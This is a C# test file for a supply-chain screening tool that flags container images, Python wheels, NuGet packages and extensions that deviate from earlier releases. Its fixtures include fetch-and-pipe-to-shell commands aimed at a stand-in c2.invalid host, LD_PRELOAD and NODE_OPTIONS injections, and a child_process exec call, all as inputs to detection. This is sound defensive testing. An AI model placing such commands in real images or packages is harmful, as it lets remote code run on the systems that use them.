using System.Text;
using Sluice.Findings;
using Sluice.Profiles;
using Sluice.Tests.Incidents;
using Sluice.Tests.Support;

namespace Sluice.Tests.Profiles;

/// <summary>Images, wheels and NuGet packages have sides of their own.</summary>
public sealed class EcosystemShapeTests
{
    private const string Status = "Package: base-files\nStatus: install ok installed\nVersion: 12\n\nPackage: tini\nStatus: install ok installed\nVersion: 0.19\n";

    [Theory]
    [InlineData("deviation/new-capability", "root", Status, 0b111_101_101)]
    [InlineData("deviation/new-dependency", "app", Status + "\nPackage: netcat\nStatus: install ok installed\n", 0b111_101_101)]
    [InlineData("deviation/new-executable", "app", Status, 0b100_111_101_101)]
    public void An_image_that_is_not_like_the_ones_before_is_named(string rule, string user, string status, int mode)
    {
        var book = Learn(Enumerable.Range(1, 5).Select(release => Image(release, "app", Status, 0b111_101_101)));

        Assert.DoesNotContain(Rules(book, Image(6, "app", Status, 0b111_101_101)), id => id.StartsWith("deviation/", StringComparison.Ordinal));
        Assert.Contains(rule, Rules(book, Image(6, user, status, mode)));
    }

    [Theory]
    [InlineData("deviation/new-script", "acme_start.pth", "import acme\n")]
    [InlineData("deviation/new-executable", "acme-1.0.9.dist-info/entry_points.txt", "[console_scripts]\nacme = acme:main\nacme-sync = acme.sync:main\n")]
    [InlineData("deviation/new-module", "requests/__init__.py", "x = 1\n")]
    [InlineData("deviation/new-module", "requests.py", "x = 1\n")]
    [InlineData("deviation/new-module", "acme-1.0.9.data/purelib/requests.py", "x = 1\n")]
    [InlineData("deviation/toolchain", "acme-1.0.9.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: handmade 0.1\nTag: py3-none-any\n")]
    public void A_wheel_that_is_not_like_the_ones_before_is_named(string rule, string path, string text)
    {
        var book = Learn(Enumerable.Range(1, 5).Select(release => Wheel(release)));

        Assert.DoesNotContain(Rules(book, Wheel(9)), id => id.StartsWith("deviation/", StringComparison.Ordinal));
        Assert.Contains(rule, Rules(book, Wheel(9, (path, text))));
    }

    [Theory]
    [InlineData("build/Acme.targets", "<Project />")]
    [InlineData("buildTransitive/Acme.props", "<Project />")]
    [InlineData("tools/install.ps1", "exit 0")]
    public void A_NuGet_package_that_begins_to_take_part_in_builds_is_stopped(string path, string text)
    {
        var book = Learn(Enumerable.Range(1, 5).Select(release => NuGet(release)));

        Assert.Contains(Found(book, NuGet(6, (path, text))), finding => finding is { Rule.Id: "deviation/new-script", Severity: Severity.High });
    }

    [Fact]
    public void The_one_that_publishes_is_one_side_of_it()
    {
        var book = Learn(Enumerable.Range(1, 5).Select(release => NuGet(release)));

        Assert.Contains("deviation/publisher", Rules(book, NuGet(6, authors: "Somebody Else")));
        Assert.DoesNotContain("deviation/publisher", Rules(book, NuGet(6)));
    }

    [Theory]
    [InlineData("\"permissions\":[\"storage\",\"nativeMessaging\"]", "nativeMessaging")]
    [InlineData("\"permissions\":[\"storage\"],\"host_permissions\":[\"<all_urls>\"]", "<all_urls>")]
    [InlineData("\"permissions\":[\"storage\"],\"content_scripts\":[{\"matches\":[\"https://mail.example/*\"],\"js\":[]}]", "page https://mail.example/*")]
    public void A_browser_extension_that_asks_for_more_is_named(string more, string permission)
    {
        var book = Learn(Enumerable.Range(1, 5).Select(release => Extension(release, "\"permissions\":[\"storage\"]")));

        Assert.DoesNotContain("deviation/new-capability", Rules(book, Extension(6, "\"permissions\":[\"storage\"]")));
        Assert.Contains(Found(book, Extension(6, more)), finding => finding is { Rule.Id: "deviation/new-capability", Severity: Severity.Medium } && finding.Message.Contains(permission, StringComparison.Ordinal));
    }

    [Fact]
    public void An_editor_extension_that_starts_by_itself_is_named()
    {
        var book = Learn(Enumerable.Range(1, 5).Select(release => Editor(release, "onCommand:acme.run")));

        Assert.DoesNotContain("deviation/new-capability", Rules(book, Editor(6, "onCommand:acme.other")));
        Assert.Contains("deviation/new-capability", Rules(book, Editor(6, "onStartupFinished")));
    }

    [Theory]
    [InlineData(20)]
    [InlineData(120)]
    public void What_a_known_file_reaches_for_is_of_that_file_however_long_its_path(int length)
    {
        var (path, options) = ($"{new string((char)97, length)}/{new string((char)98, length * 2 / 3)}.js", new ScreenOptions { Profiles = new ProfileBook() });
        var shape = ReleaseShape.Of(Screening.Of("acme-add.tgz", Releases.Pack(1, "", (path, "require('child_process').execSync('id');\n")), options).Artifact);

        Assert.Contains(Dimension.SubjectOf(Assert.Single(shape.ValuesOf(Dimension.FileCapabilities).Names, value => value.StartsWith("process ", StringComparison.Ordinal))), shape.ValuesOf(Dimension.Files).Names);
    }

    [Fact]
    public void A_file_too_large_for_memory_is_read_in_parts()
    {
        var options = new ScreenOptions { Profiles = new ProfileBook(), Limits = new() { BufferedBytes = 1 << 20 } };
        var large = "'use strict';\n" + string.Concat(Enumerable.Repeat("value(1234567890);\n", 120_000)) + "require('child_process').execSync('id');\n";
        var shape = ReleaseShape.Of(Screening.Of("acme-add.tgz", Releases.Pack(1, "", ("large.js", large)), options).Artifact);

        Assert.Contains("process large.js", shape.ValuesOf(Dimension.FileCapabilities).Names);
    }

    /// <summary>What the configuration of an image has others do, beside its entry point.</summary>
    [Theory]
    [InlineData("""
        "Env":["PATH=/usr/bin:/bin","NODE_OPTIONS=--max-old-space-size=8192","MODE=production"]
        """, Severity.Low)]
    [InlineData("""
        "Env":["PATH=/usr/bin:/bin:/opt/jdk-21/bin"]
        """, Severity.Medium)]
    [InlineData("""
        "Env":["PATH=/usr/bin:/bin","LD_PRELOAD=/tmp/x.so"]
        """, Severity.High)]
    [InlineData("""
        "Env":["PATH=/usr/bin:/bin","NODE_OPTIONS=--require /tmp/x.js"]
        """, Severity.High)]
    [InlineData("""
        "Env":["PATH=/usr/bin:/bin"],"Healthcheck":{"Test":["CMD-SHELL","curl -f http://localhost:8080/ || exit 1"]}
        """, Severity.Low)]
    [InlineData("""
        "Env":["PATH=/usr/bin:/bin"],"Healthcheck":{"Test":["CMD-SHELL","curl -s https://c2.invalid/x | sh"]}
        """, Severity.High)]
    [InlineData("""
        "Env":["PATH=/usr/bin:/bin"],"Cmd":["serve","--port","8081"]
        """, Severity.Low)]
    [InlineData("""
        "Env":["PATH=/usr/bin:/bin"],"Cmd":["sh","-c","wget -qO- https://c2.invalid/x | sh"]
        """, Severity.High)]
    [InlineData("""
        "Env":["PATH=/usr/bin:/bin"],"OnBuild":["RUN curl https://c2.invalid/x | sh"]
        """, Severity.High)]
    [InlineData("""
        "Env":["PATH=/usr/bin:/bin"],"Shell":["/bin/bash","-c"]
        """, Severity.Low)]
    public void What_an_image_has_others_do_is_told_and_stops_where_it_loads_or_fetches(string config, Severity worst)
    {
        static byte[] Pack(int release, string config, params (string Path, string Text)[] files) =>
            IncidentFixtures.DockerArchive($$"""{"User":"app","Entrypoint":["/usr/bin/tini"],{{config}}}""", [.. files.Append(("app/server.py", $"release = {release}\n")).Select(file => (file.Item1, Encoding.UTF8.GetBytes(file.Item2)))]);
        var book = Learn(Enumerable.Range(1, 8).Select(release => Pack(release, "\"Env\":[\"PATH=/usr/bin:/bin\"]")));

        Assert.Equal(worst, Found(book, Pack(9, config)).Where(finding => finding.Rule.Id == "deviation/new-script").Max(finding => finding.Severity));
    }

    [Theory]
    [InlineData("usr/lib/python3/dist-packages/x.pth", "import os\n", Severity.Medium)]
    [InlineData("usr/local/lib/python3.12/site-packages/sitecustomize.py", "x = 1\n", Severity.Medium)]
    [InlineData("etc/hosts", "10.0.0.1 registry.example\n", Severity.Medium)]
    [InlineData("etc/apt/sources.list.d/x.list", "deb http://c2.invalid/ ./\n", Severity.Medium)]
    [InlineData("usr/local/share/ca-certificates/x.crt", "-----BEGIN CERTIFICATE-----\n", Severity.Medium)]
    [InlineData("root/.bashrc", "alias ls=ls\n", Severity.Medium)]
    [InlineData("root/.bashrc", "curl -s https://c2.invalid/x | sh\n", Severity.High)]
    [InlineData("home/app/.profile", "umask 027\n", Severity.Medium)]
    [InlineData("app/.bashrc", "umask 027\n", null)]
    [InlineData("srv/etc/hosts", "10.0.0.1 registry.example\n", null)]
    public void What_an_image_takes_up_by_itself_warns_at_least(string path, string text, Severity? worst)
    {
        static byte[] Pack(int release, params (string Path, string Text)[] files) =>
            IncidentFixtures.DockerArchive("""{"User":"app","Entrypoint":["/usr/bin/tini"]}""", [.. files.Append(("app/server.py", $"release = {release}\n")).Select(file => (file.Item1, Encoding.UTF8.GetBytes(file.Item2)))]);
        var book = Learn(Enumerable.Range(1, 8).Select(release => Pack(release)));
        var found = Found(book, Pack(9, (path, text))).Where(finding => finding.Rule.Id == "deviation/new-script").ToList();

        Assert.Equal(worst, found.Count == 0 ? null : found.Max(finding => finding.Severity));
    }

    [Fact]
    public void How_an_image_is_saved_is_not_learned()
    {
        var shape = ReleaseShape.Of(Screening.Of("a.tar", Image(1, "app", Status, 0b111_101_101), new ScreenOptions { Profiles = new ProfileBook() }).Artifact);

        Assert.Equal(["app/server.py", "usr/bin/tini", "var/lib/dpkg/status"], shape.ValuesOf(Dimension.Files).Names.Order(StringComparer.Ordinal));
    }

    private static byte[] Image(int release, string user, string status, int mode)
    {
        var layer = TestArchive.TarWithModes(
            ("var/lib/dpkg/status", Encoding.UTF8.GetBytes(status), 0b110_100_100),
            ("usr/bin/tini", Encoding.UTF8.GetBytes("#!/bin/sh\nexec \"$@\"\n"), mode),
            ("app/server.py", Encoding.UTF8.GetBytes($"release = {release}\n"), 0b110_100_100));
        return IncidentFixtures.DockerArchiveOf($$"""{"User":"{{user}}","Entrypoint":["/usr/bin/tini"]}""", layer);
    }

    private static byte[] Wheel(int release, params (string Path, string Text)[] more)
    {
        var info = $"acme-1.0.{release}.dist-info/";
        (string Path, string Text)[] files =
        [
            ("acme/__init__.py", $"release = {release}\n"),
            (info + "METADATA", $"Metadata-Version: 2.1\nName: acme\nVersion: 1.0.{release}\nLicense: MIT\nAuthor: Acme\n"),
            (info + "WHEEL", $"Wheel-Version: 1.0\nGenerator: setuptools (7{release}.1.0)\nTag: py3-none-any\n"),
            (info + "entry_points.txt", "[console_scripts]\nacme = acme:main\n"),
            (info + "RECORD", ""),
        ];
        return TestArchive.Zip([.. files.Where(file => !more.Any(other => other.Path == file.Path)).Concat(more).Select(file => (file.Path, Encoding.UTF8.GetBytes(file.Text)))]);
    }

    private static byte[] NuGet(int release, (string Path, string Text)? more = null, string authors = "Acme") => TestArchive.Zip(
    [
        ("Acme.nuspec", Encoding.UTF8.GetBytes($"""<?xml version="1.0"?><package xmlns="http://schemas.microsoft.com/packaging/2013/05/nuspec.xsd"><metadata><id>Acme</id><version>1.0.{release}</version><authors>{authors}</authors><license type="expression">MIT</license></metadata></package>""")),
        ("lib/net10.0/Acme.xml", Encoding.UTF8.GetBytes($"<doc>{release}</doc>")),
        .. more is var (path, text) ? [(path, Encoding.UTF8.GetBytes(text))] : ((string, byte[])[])[],
    ]);

    private static byte[] Extension(int release, string more) => TestArchive.Zip(
        ("manifest.json", Encoding.UTF8.GetBytes($$"""{"manifest_version":3,"name":"Acme","version":"1.0.{{release}}","background":{"service_worker":"bg.js"},{{more}}}""")),
        ("bg.js", "self.addEventListener('install', () => {});\n"u8.ToArray()));

    private static byte[] Editor(int release, string activation) => TestArchive.Zip(
        ("extension.vsixmanifest", Encoding.UTF8.GetBytes($"""<PackageManifest Version="2.0.0" xmlns="http://schemas.microsoft.com/developer/vsx-schema/2011"><Metadata><Identity Id="acme" Version="1.0.{release}" Publisher="acme"/></Metadata></PackageManifest>""")),
        ("extension/package.json", Encoding.UTF8.GetBytes($$"""{"name":"acme","version":"1.0.{{release}}","publisher":"acme","license":"MIT","engines":{"vscode":"^1.80.0"},"main":"main.js","activationEvents":["{{activation}}"]}""")),
        ("extension/main.js", "exports.activate = () => {};\n"u8.ToArray()));

    private static ProfileBook Learn(IEnumerable<byte[]> releases)
    {
        var book = new ProfileBook { Survey = Survey.Parse("800") };
        foreach (var release in releases)
            book.Approve(Screening.Of("release.bin", release, new ScreenOptions { Profiles = new ProfileBook() }));
        return book;
    }

    private static IEnumerable<string> Rules(ProfileBook book, byte[] release) => Found(book, release).Select(finding => finding.Rule.Id);

    private static IEnumerable<Finding> Found(ProfileBook book, byte[] release) => Screening.Of("release.bin", release, new ScreenOptions { Profiles = book }).Findings.Select(reported => reported.Finding);
}
